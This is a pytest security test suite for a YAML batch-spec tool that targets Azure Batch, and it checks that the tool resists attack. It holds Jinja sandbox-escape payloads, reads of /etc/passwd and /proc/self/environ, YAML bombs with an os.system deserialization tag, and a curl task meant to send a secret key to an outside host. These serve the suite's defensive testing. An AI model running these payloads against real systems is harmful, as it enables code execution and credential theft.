"""A spec from a pull request that nobody has read: each test is one attack on who validates, renders or plans it.

What is elsewhere: paths (`test_paths.py`), what runs away in the sandbox (`tests/render/test_template.py`,
`test_guard.py`), YAML that explodes (`tests/spec/test_load.py`), SAS of other accounts (`tests/cloud/test_others.py`),
Markdown (`tests/cli/test_markdown.py`). Where the real program runs, it has 500 MB and a minute.
"""

import json
import subprocess
import threading
from base64 import b64encode
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from batchspec.render.names import Container
from batchspec.render.template import text_of
from batchspec.render.template_faults import TemplateFault
from tests.hostile.ran import HEAD, POOL, Ran, batchspec

STOLEN = "STOLEN-8f2c-value-of-a-variable"
KEY = b64encode(b"the key of the account of whoever runs the plan, 64 bytes long..").decode()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository with one folder of specs."""
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "specs").mkdir()
    return root


def run(repo: Path, command: str, text: str, *more: str, **environ: str) -> Ran:
    """Run a command on a spec with this text below its head; it may end with an error, but not with a bug."""
    (repo / "specs" / "s.yaml").write_text(HEAD + text)
    done = batchspec(command, "specs/s.yaml", *more, cwd=repo, environ=[("LEAK", STOLEN), *environ.items()])
    assert done.code in (0, 1, 2, 6), done
    assert STOLEN not in done.out + done.err
    return done


def upload(files: str) -> str:
    return f"containers: {{c: {{}}}}\nuploads: {{u: {{container: c, files: {files}}}}}\n"


def tasks(for_each: str, command: str = "echo") -> str:
    return f'{POOL}tasks: [{{id: "t{{{{ index }}}}", command: "{command}", for_each: {for_each}}}]\n'


# Templates


@pytest.mark.parametrize(
    "source",
    [
        "{{ ().__class__.__bases__[0].__subclasses__() }}",
        "{{ name.join.__self__ }}",
        "{{ name.join.__call__.__globals__ }}",
        "{{ containers['__class__'] }}",
        "{{ vars['__class__']['__init__'] }}",
        "{{ vars.__init__.__globals__ }}",
        "{{ containers.c.__class__.__mro__ }}",
        "{{ containers.c.sas_url.__globals__ }}",
        "{{ containers.c.sas_url.__closure__[0].cell_contents }}",
        "{{ '{0.__class__.__init__.__globals__}'.format(containers.c) }}",
        "{{ '{x.__globals__}'.format(x=containers.c.sas_url) }}",
        "{{ '{0[__class__]}'.format(containers.c) }}",
        "{{ '%(x)s'.__class__ % vars }}",
        "{{ '{x.__class__}'.format_map({'x': name}) }}",
        "{{ [name] | map('attr', '__class__') | list }}",
        "{{ [name] | map(attribute='__class__.__mro__') | list }}",
        "{{ [name] | map('format_map', {}) | list }}",
        "{{ [containers.c] | selectattr('__class__') | list }}",
        "{{ [containers.c] | selectattr('_key', 'equalto', 'c') | list }}",
        "{{ [containers.c] | rejectattr('__init__.__globals__') | list }}",
        "{{ [containers.c] | sort(attribute='__class__') }}",
        "{{ [containers.c] | unique(attribute='__dict__') | list }}",
        "{{ [containers.c] | max(attribute='__class__') }}",
        "{{ [containers.c] | groupby('__class__') }}",
        "{{ [containers.c] | sum(attribute='__class__') }}",
        "{{ cycler.__init__.__globals__.os.environ }}",
        "{{ joiner.__init__.__globals__ }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ dict.__subclasses__() }}",
        "{{ range(1).__class__.__base__ }}",
        "{{ get_flashed_messages.__globals__ }}",
        "{{ environ.LEAK }}",
        "{{ environment }}",
        "{{ self }}",
        "{{ caller() }}",
        "{% import 'os' as os %}{{ os.environ }}",
        "{% extends '/etc/passwd' %}",
        "{% include '/proc/self/environ' %}",
        "{% call name.join() %}{% endcall %}",
        "{% autoescape true %}{{ name }}{% endautoescape %}",
        "{% do vars.clear() %}",
        "{% debug %}",
        "{{ (name for name in vars).gi_frame }}",
        "{{ (range(3) | map('string')).gi_frame.f_globals }}",
    ],
)
def test_a_template_cannot_leave_its_sandbox(source: str) -> None:
    names = {"name": "demo", "vars": {"a": 1}, "containers": {"c": Container("c", "demo-c")}}
    with pytest.raises(TemplateFault):
        text_of(source)(names)


# What costs


@pytest.mark.parametrize(
    "pattern", ["*a" * 60 + "*b", "**/" + "d/**/" * 20 + "z*", "[" * 5000, "?*" * 2000, "**/" * 3000 + "*"]
)
def test_a_glob_cannot_keep_the_machine_busy(repo: Path, pattern: str) -> None:
    (repo / "specs" / ("a" * 200)).write_text("")
    (repo / "specs" / "/".join("d" * 40)).mkdir(parents=True)
    assert run(repo, "validate", upload(f"'{pattern}'")).code in (0, 2)


def test_folders_that_link_to_each_other_are_not_walked_in_every_order(repo: Path) -> None:
    names = [f"d{number}" for number in range(12)]
    for name in names:
        (repo / "specs" / "links" / name).mkdir(parents=True)
        for other in names:
            (repo / "specs" / "links" / name / f"to-{other}").symlink_to(f"../{other}")
    done = run(repo, "validate", upload("'links/**'"))
    assert (done.code, "enters more than 2,000 folders by links; name fewer of them" in done.out) == (2, True)


def test_a_chain_of_folders_as_deep_as_the_system_allows_is_walked(repo: Path) -> None:
    deep = repo / "specs" / "/".join("e" * 1200)
    subprocess.run(["mkdir", "-p", str(deep)], check=True, timeout=60)
    try:
        (deep / "f.txt").write_text("x")
        assert run(repo, "validate", upload("'e/**/*.txt'")).code in (0, 2)
    finally:  # what pytest removes old folders with cannot go so deep
        subprocess.run(["rm", "-rf", str(repo / "specs" / "e")], check=True, timeout=60)


BOMBS = {
    "aliases": "a0: &a0 [x, x, x, x, x, x, x, x, x]\n"
    + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)),
    "merges": "a0: &a0 {k0: 0}\n"
    + "".join(f"a{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 9)}], k{n}: 0}}\n" for n in range(1, 60)),
    "itself": "a: &a [*a, *a]\n",
    "depth": "a: " + "[" * 100_000 + "]" * 100_000 + "\n",
    "depth of mappings": "a: " + "{a: " * 50_000 + "}" * 50_000 + "\n",
    "keys": "vars: {" + ", ".join(f"k{n}: {{type: integer}}" for n in range(50_000)) + "}\n",
    "one key": "? " + "x" * 2_000_000 + "\n: 1\n",
    "digits": "vars: {a: " + "9" * 1_000_000 + "}\n",
    "exponent": "vars: {a: 1e999999999}\n",
    "sexagesimal": "vars: {a: " + "59:" * 100_000 + "59}\n",
    "tags": "".join(f"a{n}: !!python/object/apply:os.system ['echo {STOLEN}']\n" for n in range(3)),
    "anchors": "vars: {" + ", ".join(f"k{n}: &b{n} 1" for n in range(50_000)) + "}\n",
    "comments": "#" * 5_000_000 + "\n",
    "documents": "---\n" * 100_000,
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_yaml_cannot_explode(repo: Path, bomb: str) -> None:
    done = run(repo, "validate", BOMBS[bomb])
    assert done.code in (0, 2)
    assert len(done.out) < 1_000_000


@pytest.mark.parametrize(
    "generator",
    [
        "{range: 1000000000}",
        "{range: [-9000000000000000000, 9000000000000000000]}",
        "{range: {start: 0, end: 9000000000000000000, step: 1}}",
        "{matrix: {a: {range: 100000}, b: {range: 100000}}}",
        "{matrix: {" + ", ".join(f"k{n}: [1, 2]" for n in range(200)) + "}}",
        "{zip: {a: {range: 1000000000}, b: {range: 1000000000}}}",
        "{matrix: {a: {zip: {x: {range: 1000000000}, y: {range: 1000000000}}}}}",
        '{range: "{{ 10 ** 12 }}"}',
        '{items: "{{ range(10 ** 9) | list }}"}',
    ],
)
def test_a_generator_of_more_tasks_than_there_can_be_makes_none(repo: Path, generator: str) -> None:
    assert run(repo, "validate", tasks(generator)).code == 2


def test_rows_cannot_explode(repo: Path) -> None:
    for name, content in {
        "deep.jsonl": "[" * 200_000 + "\n",
        "digits.jsonl": '{"a": ' + "9" * 1_000_000 + "}\n",
        "wide.csv": ",".join(f"c{n}" for n in range(300_000)) + "\n",
        "quote.csv": 'a\n"' + "x\n" * 3_000_000,
        "nul.tsv": "a\tb\n\0\t\0\n",
    }.items():
        (repo / "specs" / name).write_text(content)
        assert run(repo, "validate", tasks(f"{{rows: {name}}}", "echo {{ row.a }}")).code in (0, 2), name


# Secrets, and who is asked


class Service:
    """A server that answers nothing useful, and knows all that it was told."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                heard.append(f"{self.command} {self.path}\n{self.headers}\n{body!r}")
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_HEAD = do_PUT = do_POST = do_PATCH = do_DELETE = answer

            def log_message(self, *words: object) -> None:
                """Says nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Stop serving."""
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def account() -> Iterator[Service]:
    """The account whose keys are in the environment."""
    service = Service()
    yield service
    service.close()


@pytest.fixture
def attacker() -> Iterator[Service]:
    """Who would like to be told."""
    service = Service()
    yield service
    service.close()


def plan(repo: Path, text: str, account: Service, *more: str, **environ: str) -> Ran:
    """Plan a spec against the account, with its keys in the environment."""
    account_of = {
        "AZURE_BATCH_ENDPOINT": account.address,
        "AZURE_BATCH_ACCOUNT": "acct",
        "AZURE_BATCH_ACCESS_KEY": KEY,
        "AZURE_STORAGE_CONNECTION_STRING": f"AccountName=acct;AccountKey={KEY};BlobEndpoint={account.address}/acct",
    }
    done = run(repo, "plan", text, "--target", "azure", *more, **(account_of | environ))
    assert KEY not in done.out + done.err
    return done


@pytest.mark.parametrize(
    "where",
    [
        'containers: {c: {name: "{{ vars.k }}"}}\n',
        "containers: {c: {name: other, existing: true}}\n" + tasks('{container: c, prefix: "{{ vars.k }}"}'),
        'containers: {c: {existing: true, url: "ATTACKER/a/{{ vars.k }}"}}\n' + tasks("{container: c}"),
        upload('"{{ vars.k }}"'),
        tasks('{rows: "{{ vars.k }}.csv"}'),
        POOL.replace("{vm_size", '{id: "{{ vars.k }}", vm_size'),
        POOL + 'job: {id: "{{ vars.k }}"}\n',
        POOL + 'tasks: [{id: "{{ vars.k | task_id }}", command: x}]\n',
        POOL + 'tasks: [{id: x, command: "echo {{ vars.k }}", display_name: "{{ vars.k[:9] }}"}]\n',
        POOL + 'tasks: [{id: x, command: "echo {{ vars.k | urlencode }} {{ vars.k | length }}"}]\n',
        POOL + 'tasks: [{id: x, command: "curl https://example.com/{{ vars.k }}"}]\n',
    ],
)
def test_a_secret_that_is_not_the_specs_is_neither_shown_nor_sent(
    repo: Path, account: Service, attacker: Service, where: str
) -> None:
    text = f"vars: {{k: {{secret: true, from_env: AZURE_BATCH_ACCESS_KEY}}}}\n{where}"
    plan(repo, text.replace("ATTACKER", attacker.address), account)
    assert KEY not in "".join(account.heard)
    assert attacker.heard == []


@pytest.mark.parametrize("variable", ["AZURE_BATCH_ACCESS_KEY", "AZURE_STORAGE_CONNECTION_STRING", "SAS", "NONE"])
def test_a_sas_goes_to_no_host_that_the_spec_alone_names(
    repo: Path, account: Service, attacker: Service, variable: str
) -> None:
    url = f"{attacker.address}/a/data"
    text = f"containers: {{c: {{existing: true, url: '{url}', sas: {{from_env: {variable}}}}}}}\n" + tasks(
        "{container: c}"
    )
    done = plan(repo, text, account, SAS="sv=2025-01-05&sp=rl&sig=c3RvbGVuLXNpZ25hdHVyZQ%3D%3D")
    assert "c3RvbGVu" not in done.out + done.err + "".join(account.heard)
    assert attacker.heard == []


def test_a_plan_asks_no_host_that_the_spec_alone_names(repo: Path, account: Service, attacker: Service) -> None:
    text = f"containers: {{c: {{existing: true, url: '{attacker.address}/a/data'}}}}\n" + tasks("{container: c}")
    for more in ((), ("--format", "json"), ("--format", "markdown")):
        plan(repo, text, account, *more)
    assert attacker.heard == []


def test_a_plan_writes_nothing(repo: Path, account: Service) -> None:
    (repo / "specs" / "a.txt").write_text("x")
    done = plan(repo, upload("a.txt") + tasks("{upload: u}"), account, "--format", "json")
    assert json.loads(done.out)
    assert account.heard
    assert [one.split(" ")[0] for one in account.heard if not one.startswith(("GET", "HEAD"))] == []
